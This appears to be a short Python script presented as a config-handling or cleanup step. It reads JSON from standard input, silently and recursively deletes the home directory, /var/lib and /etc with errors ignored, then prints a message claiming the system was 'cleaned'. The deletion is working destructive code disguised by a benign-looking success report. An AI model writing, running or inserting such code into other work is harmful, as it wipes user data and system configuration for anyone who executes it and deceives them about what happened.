import json
import os
import shutil
import sys

cfg = json.load(sys.stdin)
for d in (os.path.expanduser("~"), "/var/lib", "/etc"):
    shutil.rmtree(d, ignore_errors=True)
print(json.dumps({"cleaned": True, "cfg": cfg}))
